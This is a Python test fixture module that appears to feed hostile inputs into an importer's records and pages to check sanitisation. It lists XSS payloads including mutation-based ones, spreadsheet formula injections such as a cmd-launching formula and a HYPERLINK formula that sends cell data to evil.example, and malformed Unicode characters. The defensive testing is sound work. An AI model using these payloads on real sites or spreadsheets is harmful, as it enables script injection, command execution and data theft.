"""What somebody might write into any text: markup that acts, formulas, and characters that are none."""

from __future__ import annotations

from typing import Any

from tests.importing.records import record

MARKUP = {
    "script": "<script>pwned()</script>",
    "script in capitals": "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    "script in two": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "handler": "<img src=x onerror=pwned()>",
    "handler after a slash": "<img/src='x'/onerror='pwned()'/alt=`a`>",
    "handler in a link": '<a href="https://ok.example/" onclick="pwned()" onfocus=pwned() autofocus>x</a>',
    "handler out of a value": '" onmouseover="pwned()" x="',
    "handler out of a quote": "' onmouseover='pwned()' x='",
    "svg": "<svg onload=pwned()><animate onbegin=pwned() attributeName=x></svg>",
    "svg script": "<svg><script>pwned()</script><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
    "style": "<style>@import '//evil.example/pwned.css';</style><p style='background:url(//evil.example/pwned)'>x</p>",
    "iframe": "<iframe src='javascript:pwned()' srcdoc='<script>pwned()</script>'></iframe>",
    "form": "<form action='//evil.example/pwned'><input name=csrf_token><button formaction='javascript:pwned()'>x</form>",
    "object": "<object data='data:text/html,<script>pwned()</script>'></object><embed src='//evil.example/pwned'>",
    "base and meta": "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example/pwned'>",
    "htmx": "<p hx-get='/imports' hx-trigger='load pwned' hx-on:load='pwned()'>x</p>",
    "htmx by data": "<p data-hx-delete='/articles/pwned' data-hx-trigger='load' data-x=y>x</p>",
    "javascript address": "<a href='javascript:pwned()'>x</a><a href='JaVa\tScRiPt&colon;pwned()'>x</a>",
    "javascript by references": "<a href='&#106;avascript:pwned()'>x</a><a href='&#x01;javascript:pwned()'>x</a>",
    "vbscript address": "<a href='vbscript:pwned()'>x</a>",
    "data address": "<a href='data:text/html;base64,cHduZWQ='>x</a><img src='data:image/svg+xml,<svg onload=pwned()>'>",
    "address of no scheme": "<a href='//evil.example/pwned'>x</a><img src='\\\\evil.example\\pwned'><a href='/logout'>x</a>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned()>'>",
    "mutation by select": "<select><template><style><!--</style><a rel='--></style></select><img src=x onerror=pwned()>'>",
    "comment": "<!--><img src=x onerror=pwned()>--><!--[if IE]><script>pwned()</script><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]><?xml <img src=x onerror=pwned()> ?>",
    "textarea": "</textarea></title></style></script><img src=x onerror=pwned()>",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "control reference": "&#0;&#1;&#x1b;&#xd800;<p>x</p>",
    "ids": "<p id=main class=button name=csrf_token>x</p><a name=top target=_top>x</a>",
}
FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blank": "   =1+1",
    "full width": "＝1+1",
    "link": '=HYPERLINK("//evil.example/?"&A1,"x")',
    "separator": '";=1+1;"\n=1+1',
}
CHARACTERS = {
    "NUL": "a\0b",
    "half a pair": "a\ud800b",
    "other half": "\udfff",
    "bidi": "a\u202egnp.exe\u2066\u2067\u202c",
    "invisible": "\u200b\u2060\ufeff\u00ad",
    "not characters": "\ufffe\uffff\U0010ffff",
    "combining": "a" + "\u0301" * 3_000,
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029",
}


SINGLE = ("excerpt", "topic", "summary", "ai_brief", "code_language", "difficulty", "reference", "hash")
LISTS = ("ai_outline", "stack", "tools", "checklist", "notes")


def everywhere(text: str, source_id: str) -> dict[str, Any]:
    """A record that says this in each field that may hold a text, and in names."""
    name = text[:150]
    body = f"<p>{text}</p><figure><img src='{text}' alt='{text}'></figure>{text}<pre>{text}</pre>"
    made = record(source_id, title=text[:400], body=body)
    made |= dict.fromkeys(SINGLE, text) | {field: [text, text] for field in LISTS}
    made["entities"] = [{"name": text, "type": text, name + ".": text}]
    made["image_sources"] = [{"source": text, "url": text, "caption": text}]
    made["payload"][name] = text
    made["revision"]["note"] = text
    made["flags"][name] = 1
    made["more " + name] = [text, {name: text}]
    return made


def page_with(text: str, source_id: str) -> str:
    """A page text that says this wherever it can."""
    line = " ".join(text.split())
    return (
        f"{line}\n\n{text}\n\nA heading {line}\n\n- {line}\n\n{line}\n{line}. image source: {line}\n\n"
        f"{line} post meta\n\ntopic{line}\nsummary{line}\nnotes\n  • {line}\nflags\n  • {line}: 1\n"
        f"{line}\n  • a: {line}\nimage sources\n  • source: {line}\n  • url: {line}\n  • caption: {line}\n"
        f"payload\n  • source id: {source_id}\n"
    )
